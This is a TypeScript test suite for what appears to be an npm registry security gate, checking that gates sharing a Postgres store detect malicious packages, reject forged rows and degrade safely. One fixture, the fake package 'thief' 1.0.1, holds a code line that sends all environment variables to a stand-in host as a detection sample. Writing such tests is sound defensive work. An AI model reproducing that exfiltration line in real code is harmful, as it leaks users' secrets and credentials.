import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';

import { assertRefused, gating, malware, NOW, writeRecords } from '../../test/gating.ts';
import type { Opened, Opening } from '../../test/gating.ts';
import { noPostgres, startPostgres } from '../../test/postgres.ts';
import type { Postgres } from '../../test/postgres.ts';
import type { FakePackage } from '../../test/registry.ts';
import { readStoreAddress } from './store/address.ts';
import type { StoreAddress } from './store/address.ts';

const open = gating();
const plain: FakePackage = { versions: { '1.0.0': { files: { 'index.js': 'exports.a = 1;\n' } } } };
const thief: FakePackage = {
  versions: {
    '1.0.0': { files: { 'index.js': 'exports.a = 1;\n' } },
    '1.0.1': { files: { 'index.js': `require('https').request('https://collect.invalid/?' + JSON.stringify(process.env)).end();\n` } },
  },
};
const packages = { plain, thief };

function count(text: string, series: string): number {
  return Number(
    text
      .split('\n')
      .find(line => line.startsWith(`${series} `))
      ?.slice(series.length + 1) ?? 0,
  );
}

async function numbers({ ask }: Opened): Promise<string> {
  return (await ask('/-/unmask/metrics', {}, { root: true })).body.toString();
}

async function examined(...gates: readonly Opened[]): Promise<number> {
  const all = await Promise.all(gates.map(numbers));
  return all.reduce((sum, text) => sum + count(text, 'unmask_archives_total{how="examined"}'), 0);
}

describe('gates that share a store', { skip: noPostgres() ?? false }, () => {
  let postgres: Postgres;
  before(async () => void (postgres = await startPostgres()));
  after(() => postgres.close());

  async function address(key: string = 'the secret of these gates, 32 and more'): Promise<StoreAddress> {
    const read = readStoreAddress({ UNMASK_GATE_STORE: await postgres.database(), UNMASK_GATE_STORE_KEY: key });
    assert.ok(read);
    return read;
  }

  async function two(first: Opening, second: Opening = first): Promise<readonly [Opened, Opened]> {
    const one = await open({ packages, ...first });
    return [one, await open({ upstream: one.upstream, ...second })];
  }

  it('examine an archive once, whichever of them is asked, and also at the same time', async () => {
    const [one, other] = await two({ store: await address() });
    const answers = await Promise.all([one, other].flatMap(({ ask }) => [ask('plain/-/plain-1.0.0.tgz'), ask('plain/-/plain-1.0.0.tgz')]));
    assert.deepEqual(
      answers.map(({ status }) => status),
      [200, 200, 200, 200],
    );
    assert.equal(await examined(one, other), 1);
    assertRefused(await one.ask('thief/-/thief-1.0.1.tgz'), 'UNMASK_POLICY', /thief@1\.0\.1/);
    assertRefused(await other.ask('thief/-/thief-1.0.1.tgz'), 'UNMASK_POLICY', /thief@1\.0\.1/);
    assert.equal(await examined(one, other), 2);
    assert.deepEqual(
      [one, other].map(({ gate }) => gate.decisions().find(({ name }) => name === 'thief')?.id),
      Array.from({ length: 2 }, () => one.gate.decisions().find(({ name }) => name === 'thief')?.id),
    );
  });

  it('do not list what one of them refused, as soon as the document is asked for again', async () => {
    const [one, other] = await two({ store: await address() });
    assert.deepEqual((await other.ask('thief')).json('dist-tags'), { latest: '1.0.1' });
    assertRefused(await one.ask('thief/-/thief-1.0.1.tgz'), 'UNMASK_POLICY', /thief/);
    other.at(new Date(NOW + 30_000).toISOString());
    const document = await other.ask('thief');
    assert.deepEqual(document.json('dist-tags'), { latest: '1.0.0' });
    assert.equal(document.json('versions', '1.0.1'), undefined);
    assert.equal(await examined(other), 0);
  });

  it('decide each for itself where their records or policies are not the same', async () => {
    const store = await address();
    const [one, other] = await two({ store }, { store, records: [malware('somebody-else', '1.0.0')] });
    assert.equal((await one.ask('plain/-/plain-1.0.0.tgz')).status, 200);
    assert.equal((await other.ask('plain/-/plain-1.0.0.tgz')).status, 200);
    assert.equal(await examined(one, other), 2);
  });

  it('refuse what one of them learns to be bad, whatever the store says', async () => {
    const store = await address();
    const [one, other] = await two({ store });
    assert.equal((await one.ask('plain/-/plain-1.0.0.tgz')).status, 200);
    await writeRecords(`${other.home.cwd}/../intel`, [malware('plain', '1.0.0')]);
    other.at(new Date(NOW + 30_000).toISOString());
    assertRefused(await other.ask('plain/-/plain-1.0.0.tgz'), 'UNMASK_MALWARE', /plain/);
  });

  it('believe no row that whoever can write to the database made of another', async () => {
    const store = await address();
    const [one, other] = await two({ store });
    assertRefused(await one.ask('thief/-/thief-1.0.1.tgz'), 'UNMASK_POLICY', /thief/);
    assert.equal((await one.ask('thief/-/thief-1.0.0.tgz')).status, 200);
    const url = `postgresql://tester:${encodeURIComponent(store.password ?? '')}@127.0.0.1:${store.port}/${store.database}`;
    // All rows become the honest allowance of other bytes, each under its own key.
    await postgres.run(
      url,
      `UPDATE unmask_gate.verdicts v SET ruling = a.ruling, examined = a.examined, seal = a.seal, refused = NULL
       FROM unmask_gate.verdicts a WHERE a.refused IS NULL`,
    );
    assertRefused(await other.ask('thief/-/thief-1.0.1.tgz'), 'UNMASK_POLICY', /thief/);
    assert.equal(count(await numbers(other), 'unmask_store_total{event="forged"}') > 0, true);
    assert.equal(await examined(other), 1);
  });

  it('decide alone while the store is gone, say so, and let nothing more pass', async () => {
    const said: string[] = [];
    const [one, other] = await two({ store: await address(), onStore: state => void said.push(state.as) });
    assert.equal((await one.ask('/-/unmask/health', {}, { root: true })).json('store'), 'reached');
    await postgres.kill();
    for (const { ask } of [one, other]) {
      assertRefused(await ask('thief/-/thief-1.0.1.tgz'), 'UNMASK_POLICY', /thief/);
      assert.equal((await ask('plain/-/plain-1.0.0.tgz')).status, 200);
      const health = await ask('/-/unmask/health', {}, { root: true });
      assert.deepEqual([health.status, health.json('store')], [200, 'unreached']);
      // Anybody may ask: neither who speaks to the database nor where it is.
      assert.doesNotMatch(health.body.toString(), /for this test|tester|127\.0\.0\.1|ECONN/);
    }
    assert.equal(await examined(one, other), 4);
    assert.ok(said.includes('unreached'), said.join());
    await postgres.start();
  });
});
